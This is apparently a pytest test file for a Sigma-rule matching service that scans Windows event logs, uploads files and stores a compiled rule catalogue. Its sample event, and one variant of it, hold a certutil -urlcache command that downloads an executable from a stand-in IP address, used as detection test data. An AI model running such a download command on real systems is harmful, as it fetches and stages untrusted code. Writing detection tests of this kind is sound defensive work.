"""Scans of several files (catalog.matching.scanning), EVTX chunk ranges, the compiled catalog stored on disk
(catalog.matching.stored), and match jobs of several uploaded files.

A split scan gives what an unsplit one gives: the same hits, numbered the same, and the same grouped results.
"""

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management import call_command

from catalog.core.sigma.event_files import read_events
from catalog.core.sigma.evtx_ranges import ranges
from catalog.matching import stored
from catalog.matching.engine import forget_compiled, match_events, warm
from catalog.matching.scanning import TRUSTED, event_files, scan
from catalog.models import CatalogVersion
from catalog.models.matching_jobs import MatchJob
from tests.constants import CERTUTIL_ID
from tests.task_worker import run_queued_tasks

ROOT = Path(__file__).resolve().parents[2]
HIT = {
    "EventID": 1,
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Provider_Name": "Microsoft-Windows-Sysmon",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe",
    "UtcTime": "2026-01-02 03:04:05.000",
}


def replicas(corpus_dir, out: Path, chunks: int) -> Path:
    """One EVTX file of `chunks` of the regression files' chunks (scripts/replicate_evtx.py)."""
    script = ROOT / "scripts" / "replicate_evtx.py"
    subprocess.run(
        [sys.executable, str(script), str(corpus_dir / "regression_data"), str(out), "--bytes", "1", "--file-chunks",
         str(chunks)],
        check=True, capture_output=True,
    )  # fmt: skip
    return out / "replica-0000.evtx"


@pytest.mark.database_free
def test_a_chunk_range_reads_the_records_of_its_chunks(corpus_dir, tmp_path):
    path = replicas(corpus_dir, tmp_path / "evtx", 12)
    whole = [(e.timestamp, e.flat) for e in read_events(path, "x", TRUSTED)]
    spans = ranges(path, 5)
    assert spans == [(0, 5), (5, 10), (10, 12)]
    pieces = [(e.timestamp, e.flat) for span in spans for e in read_events(path, "x", TRUSTED, chunks=span)]
    assert len(whole) >= 12 and pieces == whole


@pytest.mark.one_database
def test_a_split_scan_equals_a_whole_one(corpus, corpus_dir, corpus_matcher, tmp_path):
    path = replicas(corpus_dir, tmp_path / "evtx", 24)
    (tmp_path / "evtx" / "more.jsonl").write_text(json.dumps(HIT) + "\n", encoding="utf-8")

    def run(processes, per_piece):
        hits, files = [], []
        total = scan(
            [tmp_path / "evtx"], processes, per_piece=per_piece, on_file=lambda f: files.append(f.summary()),
            on_hits=lambda name, hit: hits.append((name, hit.number, hit.timestamp, hit.hits)),
        )  # fmt: skip
        return hits, files, total.result()

    whole = run(1, 1000)
    split = run(2, 5)  # in a test's transaction the pieces run in this process, split all the same
    assert split == whole
    hits, files, total = whole
    assert [f["file"] for f in files] == [str(tmp_path / "evtx" / "more.jsonl"), str(path)]  # by path
    assert total["events"] == files[1]["events"] + 1 and len(hits) == total["hit_events"] > 20
    numbers = [number for name, number, *_ in hits if name == str(path)]
    assert numbers == sorted(numbers) and len(set(numbers)) == len(numbers)
    # every event matches as it does alone (the reference is match_events on the events read whole)
    events = list(read_events(path, "x", TRUSTED))
    fired = {e.number: sorted(r["rule"]["id"] for r in found) for name, e_number, _, found in hits
             for e in [events[e_number - 1]] if name == str(path)}  # fmt: skip
    alone = {
        e.number: sorted(str(rule.uuid) for rule in result.rules)
        for e, result in zip(events, match_events([e.flat for e in events], None), strict=True)
        if result.rules
    }
    assert fired == alone
    samples = [s for group in total["rules"] for s in group["samples"]]
    assert samples and all(s["file"] and s["explanation"]["fired"] for s in samples)


@pytest.mark.one_database
def test_the_compiled_catalog_is_stored_and_loaded(corpus, settings, tmp_path):
    settings.CATALOG_MATCH_COMPILED_DIR = str(tmp_path / "compiled")
    forget_compiled()
    event = dict(HIT, CommandLine="certutil -urlcache -split -f http://198.51.100.7/a.exe")
    built = [str(r.uuid) for r in match_events([event], None)[0].rules]
    compiled = warm()
    files = list((tmp_path / "compiled").glob("catalog-*.pickle"))
    assert len(files) == 1 and oct(files[0].stat().st_mode & 0o777) == "0o600" and built
    forget_compiled()
    loaded = stored.load(*CatalogVersion.state())
    assert loaded is not None and not loaded._pools and loaded is not compiled
    rules = [(c.rule.pk, c.rule.title, c.rule.effective_level, c.rule.category) for c in loaded.candidates]
    assert rules == [(c.rule.pk, c.rule.title, c.rule.effective_level, c.rule.category) for c in compiled.candidates]
    assert [str(r.uuid) for r in match_events([event], None)[0].rules] == built  # from the file
    os.chmod(tmp_path / "compiled", 0o777)  # a folder others may write to is never read
    assert stored.load(*CatalogVersion.state()) is None
    os.chmod(tmp_path / "compiled", 0o700)
    forget_compiled()


def test_several_files_upload_as_one_job(client, settings, tmp_path, example_rules):
    forget_compiled()
    settings.CATALOG_MATCH_JOB_DIR = str(tmp_path / "jobs")
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {"anon": None, "match": None}}
    files = []
    for name, events in (("a.jsonl", [HIT, {"EventID": 2}]), ("b.json", [{**HIT, "UtcTime": "2026-01-01"}])):
        handle = io.BytesIO("\n".join(json.dumps(e) for e in events).encode())
        handle.name = name
        files.append(handle)
    response = client.post("/match/upload/", {"file": files})
    assert response.status_code == 302
    run_queued_tasks()
    job = MatchJob.objects.get()
    assert job.status == "done" and job.file_format == "files" and job.file_name == "2 files: a.jsonl, b.json"
    results = job.results
    assert results["files"] == [
        {"file": "a.jsonl", "format": "jsonl", "events": 2, "hit_events": 1},
        {"file": "b.json", "format": "json", "events": 1, "hit_events": 1},
    ]
    group = next(g for g in results["rules"] if g["id"] == CERTUTIL_ID)
    assert group["count"] == 2 and [(s["file"], s["number"]) for s in group["samples"]] == [
        ("a.jsonl", 1),
        ("b.json", 1),
    ]
    assert [(e["file"], e["number"]) for e in results["timeline"]] == [("b.json", 1), ("a.jsonl", 1)]
    page = client.get(f"/match/jobs/{job.token}/").content.decode()
    assert "<code>b.json</code> (json): 1 event" in page
    settings.CATALOG_MATCH_MAX_UPLOAD_FILES = 1
    for handle in files:
        handle.seek(0)
    refused = client.post("/api/match/files/", {"file": files})
    assert refused.status_code == 413 and refused.json()["error"] == "2 files: an upload may have at most 1."
    forget_compiled()


def test_match_event_reads_a_folder(tmp_path, capsys, example_rules):
    forget_compiled()
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "b.jsonl").write_text(json.dumps(HIT), encoding="utf-8")
    (tmp_path / "a.json").write_text(json.dumps(HIT), encoding="utf-8")
    (tmp_path / "notes.txt").write_text("not events", encoding="utf-8")
    assert [name for _, name in event_files([tmp_path])] == [str(tmp_path / "a.json"), str(tmp_path / "deep/b.jsonl")]
    call_command("match_event", str(tmp_path), "--processes", "2")
    out = capsys.readouterr().out
    assert out.index(f"{tmp_path / 'a.json'} event 1") < out.index(f"{tmp_path / 'deep/b.jsonl'} event 1")
    assert "all 2 files: 2 event(s), 2 with hits" in out
    forget_compiled()


def test_a_process_that_matched_explains_with_the_matchers_compiled_rules(example_rules):
    """Explanations take a rule's compiled form from the compiled catalog this process holds (a scan's workers
    compiled each firing rule again), and warm() reads the Windows channel tables before a scan forks."""
    from catalog.core.taxonomy import channels
    from catalog.matching import engine, explaining

    forget_compiled()
    channels._by_channel.cache_clear()
    catalog = warm()
    assert channels._by_channel.cache_info().currsize == 1  # read once here, shared by forked workers
    rules = [candidate.rule for candidate in catalog.candidates[:5]]
    parts = explaining.rule_parts(rules)
    assert parts and all(parts[pk][0] is catalog.compiled(pk) for pk in parts)

    forget_compiled()  # a process that never matched compiles them itself, the same way
    alone = explaining.rule_parts(rules)
    assert engine.kept.for_version(CatalogVersion.current()).catalog is None
    assert set(alone) == set(parts) and all(alone[pk][0] is not parts[pk][0] for pk in alone)
    assert all(alone[pk][1] == parts[pk][1] for pk in alone)  # the same stored predicate rows


def test_a_scan_keeps_the_compiled_catalog_out_of_the_cycle_collector_while_it_runs(tmp_path, example_rules):
    """The compiled catalog is frozen (gc.freeze) while a scan runs, so the collector's full passes skip it, and let go
    after: the objects a scan froze are the collector's again."""
    import gc

    (tmp_path / "events.jsonl").write_text(json.dumps(HIT) + "\n" + json.dumps(HIT) + "\n", encoding="utf-8")
    before = gc.get_freeze_count()
    during = []
    scan([tmp_path], 1, on_hits=lambda name, hit: during.append(gc.get_freeze_count()))
    catalog = warm()
    assert len(during) == 2 and all(count > before + len(catalog.candidates) for count in during)
    assert gc.get_freeze_count() == before


def test_the_collector_spares_what_was_alive_until_the_outermost_use_ends():
    import gc

    from catalog.matching.engine import collector_spared

    before = gc.get_freeze_count()
    with collector_spared():
        frozen = gc.get_freeze_count()
        assert frozen > before
        with collector_spared():
            pass
        # an inner use ending leaves them out still (a frozen object may still die: its count only falls by that)
        assert frozen - 100 < gc.get_freeze_count() <= frozen
    assert gc.get_freeze_count() == before


@pytest.mark.one_database
def test_a_scan_without_details_carries_each_hits_matched_predicates_only(corpus, corpus_dir, corpus_matcher, tmp_path):
    from catalog.core.sigma.explain import matched_predicates

    replicas(corpus_dir, tmp_path / "evtx", 24)

    def run(details):
        hits = []
        total = scan([tmp_path / "evtx"], 1, on_hits=lambda name, hit: hits.append(hit), details=details)
        return hits, total.result()

    (full, full_total), (lines, lines_total) = run(True), run(False)
    assert len(full) == len(lines) > 20
    for whole, line in zip(full, lines, strict=True):
        assert (line.number, line.timestamp, line.shape) == (whole.number, whole.timestamp, whole.shape)
        assert [h["rule"] for h in line.hits] == [h["rule"] for h in whole.hits]
        expected = [None if h["explanation"] is None else matched_predicates(h["explanation"]) for h in whole.hits]
        assert [h["matched"] for h in line.hits] == [h["matched"] for h in whole.hits] == expected
        assert all(h["explanation"] is None for h in line.hits)
    assert any(h["matched"] for line in lines for h in line.hits)
    counts = [(g["id"], g["count"], g["first"], g["last"]) for g in full_total["rules"]]
    assert [(g["id"], g["count"], g["first"], g["last"]) for g in lines_total["rules"]] == counts
    assert all(g["samples"] for g in full_total["rules"]) and not any(g["samples"] for g in lines_total["rules"])
    assert full_total["timeline"] and lines_total["timeline"] == []
    assert lines_total["timeline_left_out"] == full_total["hit_events"] == lines_total["hit_events"]


def test_a_file_is_counted_up_front_only_where_its_size_could_pass_the_event_limit(tmp_path, monkeypatch):
    from catalog.core.sigma import event_files
    from catalog.core.sigma.event_files import EventFileError, FileLimits
    from catalog.core.sigma.logged_events import EventLimits

    path = tmp_path / "three.jsonl"
    path.write_text("\n".join(json.dumps({"EventID": n}) for n in range(3)), encoding="utf-8")
    counted = []
    real = event_files.count_events
    monkeypatch.setattr(event_files, "count_events", lambda *args: counted.append(args) or real(*args))
    roomy = FileLimits(max_bytes=1 << 40, max_events=path.stat().st_size, per_event=EventLimits())
    assert len(list(read_events(path, "three.jsonl", roomy))) == 3 and counted == []  # a byte an event at least
    tight = FileLimits(max_bytes=1 << 40, max_events=2, per_event=EventLimits())
    with pytest.raises(EventFileError, match=r"three.jsonl: 3 events \(at most 2\)"):
        list(read_events(path, "three.jsonl", tight))
    assert len(counted) == 1
